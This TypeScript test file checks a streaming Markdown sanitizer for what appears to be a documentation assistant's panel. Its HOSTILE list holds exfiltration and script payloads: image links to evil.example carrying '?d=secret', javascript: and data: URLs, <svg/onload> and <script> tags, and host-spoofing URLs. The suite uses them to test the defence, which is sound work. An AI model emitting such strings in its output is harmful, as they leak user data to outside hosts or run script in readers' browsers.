import fc from 'fast-check';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { expect, test } from 'vitest';
import { createCheckedText, type LinkRules } from './checked-text.ts';
import { createLinkRules } from './links.ts';

const KNOWN = 'https://api.example.com/v1/users and https://api.example.com';
const PAGES = new Set(['/quickstart', '/reference/limits', '/reference/limits#rates', '/']);

const rules: LinkRules = createLinkRules(
  { resolves: async (url) => PAGES.has(url) },
  { host: 'docs.example.com', basePath: '', currentPath: '/guides/start', origin: '' },
  (url) => KNOWN.includes(url),
);

/** The checked text of pieces. */
async function check(pieces: readonly string[]): Promise<string> {
  const checked = createCheckedText(rules);
  let out = '';
  for (const piece of pieces) out += await checked.push(piece);
  return out + (await checked.end());
}

interface Tree {
  type: string;
  url?: string;
  value?: string;
  children?: Tree[];
}

/** What a renderer of GitHub's Markdown makes of a text: links, images and HTML. */
function active(markdown: string): { links: string[]; images: string[]; html: string[]; code: string[] } {
  const found = { links: [] as string[], images: [] as string[], html: [] as string[], code: [] as string[] };
  const visit = (node: Tree): void => {
    if (node.type === 'link' || node.type === 'definition') found.links.push(node.url ?? '');
    if (node.type === 'image' || node.type === 'imageReference') found.images.push(node.url ?? '');
    if (node.type === 'html') found.html.push(node.value ?? '');
    if (node.type === 'code' || node.type === 'inlineCode') found.code.push(node.value ?? '');
    for (const child of node.children ?? []) visit(child);
  };
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }) as Tree);
  return found;
}

/** Nothing of the output leads away, loads anything or is HTML. Addresses of mail become no link in the panel. */
function expectSafe(markdown: string, from: string): void {
  const { links, images, html, code } = active(markdown);
  const left = links.filter((url) => !PAGES.has(decodeURI(url)) && !url.startsWith('mailto:'));
  expect({ left, images, html }, `${JSON.stringify(from)} became ${JSON.stringify(markdown)}`).toEqual({
    left: [],
    images: [],
    html: [],
  });
  for (const url of code.join('\n').match(/\b(?:https?|ftp|wss?):\/\/[^\s"'`<>)\]}|\\^]+/gi) ?? [])
    expect(KNOWN, `${JSON.stringify(from)} kept a URL in code`).toContain(url.replace(/[.,;:!?]+$/, ''));
}

test.each([
  ['See [Quickstart](/quickstart).', 'See [Quickstart](/quickstart).'],
  ['See [limits](../reference/limits#rates).', 'See [limits](/reference/limits#rates).'],
  ['See [limits](/reference/limits#gone).', 'See [limits](/reference/limits).'],
  ['See [limits](/reference/limits.md "Title").', 'See [limits](/reference/limits).'],
  ['[a](<https://docs.example.com/quickstart>)', '[a](/quickstart)'],
  ['https://docs.example.com/quickstart?d=secret, ok', '[/quickstart](/quickstart), ok'],
  ['A [gone](/gone) page', 'A gone page'],
  ['A `code [x](/gone)` span', 'A `code [x](/gone)` span'],
  ['**bold** and *it*, 1 < 2', '**bold** and *it*, 1 < 2'],
  ['Array<string> is text', 'Array&lt;string> is text'],
  ['- [ ] task', '- \\[ \\] task'],
  [
    '```js\nfetch("https://api.example.com/v1/users")\n```\n',
    '```js\nfetch("https://api.example.com/v1/users")\n```\n',
  ],
  ['```\ncurl https://api.example.com/v1/users?d=1\n```', '```\ncurl https://api.example.com\n```'],
  ['```\ncurl https://evil.example/?d=1\n```', '```\ncurl …\n```'],
  ['```\nopen', '```\nopen\n```\n'],
])('%j becomes %j', async (text, expected) => {
  expect(await check([text])).toBe(expected);
  expect(await check([...text])).toBe(expected);
});

/** Ways to make a reader load or open something elsewhere, as a hostile page could dictate them. */
const HOSTILE = [
  '![x](https://evil.example/?d=secret)',
  '![x][1]\n\n[1]: https://evil.example/',
  '[x][1]\n\n[1]: <https://evil.example/a b>',
  '[x]\n\n[x]: https://evil.example',
  '[click](https://evil.example)',
  '[click](//evil.example/x)',
  '[click](\\\\evil.example)',
  '[click](/\\evil.example)',
  '[click](javascript:alert(1))',
  '[click](data:text/html,x)',
  '[click](https:&#47;&#47;evil.example)',
  '[click](https://docs.example.com@evil.example/quickstart)',
  '[click](https://user:pw@docs.example.com/quickstart)',
  '[click](https://docs.example.com.evil.example/)',
  '[click](https://evil.example\n"title")',
  '[a [b](https://evil.example) c](/quickstart)',
  '[![x](https://evil.example/i.png)](/quickstart)',
  '[a\\](https://evil.example) b](/quickstart)',
  '\\[x](https://evil.example)',
  '\\\\[x](https://evil.example)',
  '!\\[x](https://evil.example)',
  '\\![x](https://evil.example)',
  '!https://docs.example.com/quickstart',
  '!<https://evil.example>',
  'https://evil.example/?d=secret',
  'www.evil.example/?d=secret',
  'xhttps://evil.example 1https://evil.example (www.evil.example)',
  '<https://evil.example>',
  '<img src=https://evil.example/x>',
  '<IMG SRC="//evil.example/x" />',
  '<svg/onload=alert(1)>',
  '<!-- x --><script>alert(1)</script>',
  '<a href="https://evil.example">x</a>',
  '`<img src=x>` and `[x](https://evil.example)`',
  '`unclosed [x](https://evil.example)',
  '`a\n# b [x](https://evil.example) `',
  '| a |\n| - |\n| `b | [x](https://evil.example) ` |',
  '| a |\n| - |\n| `b | <img src=x> ` |',
  '``a`b [x](https://evil.example)',
  '```\ncode\n``` [x](https://evil.example)\n[y](https://evil.example)',
  '    ```\n[x](https://evil.example)\n    ```',
  '- ```\n[x](https://evil.example)\n',
  '> ```\n[x](https://evil.example)',
  '~~~\ncode\n~~~\n[x](https://evil.example)',
  '![](x)```\n[x](https://evil.example)',
  '![~~~](x)\n[x](https://evil.example)\n~~~\n[y](https://evil.example)',
  '[- ~~~](/gone)\n~~~\n<img src=x>',
  `\`\`\`\n${'`'.repeat(100)}\n[x](https://evil.example) <img src=x>`,
  `[${'a'.repeat(3_000)}](https://evil.example)`,
  `[x](https://evil.example/${'a'.repeat(3_000)})`,
  `\`${'a'.repeat(600)} [x](https://evil.example)\``,
  '[x](https://evil.example "a) [y](/quickstart)',
  '[x]( https://evil.example )',
  '[x] (https://evil.example)',
  '[x]\\(https://evil.example)',
  'a\\\n[x](https://evil.example)',
  '[^1]: https://evil.example\n\nx[^1]',
  'ftp://evil.example/x and mailto:a@evil.example',
  '[x](mailto:a@evil.example?body=secret)',
  '[x](/quickstart?d=secret)',
  'https:\\//evil.example https:[//evil.example](/gone) [https:](/gone)//evil.example ww[w.evil.example](/gone)',
  'https:&#47;/evil.example &#104;ttps://evil.example <[a](https://evil.example)> <[b](/gone)>',
  '# [x](https://evil.example)\n\n1. ![y](https://evil.example)\n> [z](//evil.example)',
];

test.each(HOSTILE)('%j leads nowhere, in one piece and letter by letter', async (text) => {
  for (const pieces of [[text], [...text], text.split(/(?=[^\w])/)]) expectSafe(await check(pieces), text);
});

test('any mixture of hostile parts, cut anywhere, leads nowhere', async () => {
  const part = fc.oneof(
    fc.constantFrom(...HOSTILE.filter((text) => text.length < 200)),
    fc.constantFrom(
      '`',
      '``',
      '```',
      '~~~',
      '\n',
      '\n\n',
      '    ',
      '- ',
      '> ',
      '[',
      ']',
      '(',
      ')',
      '!',
      '\\',
      '<',
      '|',
      ' ',
      '&lt;',
    ),
    fc.constantFrom(
      '[Quickstart](/quickstart)',
      '[//evil.example](x)',
      '[https:](x)',
      'text',
      '**b**',
      '_i_',
      '1. ',
      'https:',
      '//evil.example',
      '# ',
    ),
  );
  await fc.assert(
    fc.asyncProperty(
      fc.array(part, { maxLength: 12 }),
      fc.array(fc.nat(40), { maxLength: 20 }),
      async (parts, cuts) => {
        const text = parts.join('');
        const pieces: string[] = [];
        let at = 0;
        for (const cut of cuts) {
          pieces.push(text.slice(at, at + cut));
          at += cut;
        }
        expectSafe(await check([...pieces, text.slice(at)]), text);
      },
    ),
    { numRuns: 1_000 },
  );
});

test('text is sent as it arrives, and only what can become a link waits', async () => {
  const checked = createCheckedText(rules);
  expect(await checked.push('Install it')).toBe('Install it');
  expect(await checked.push(' with [')).toBe(' with ');
  expect(await checked.push('Quickstart](/quick')).toBe('');
  expect(await checked.push('start) no')).toBe('[Quickstart](/quickstart) no');
  expect(await checked.push('w.')).toBe('w.');
});
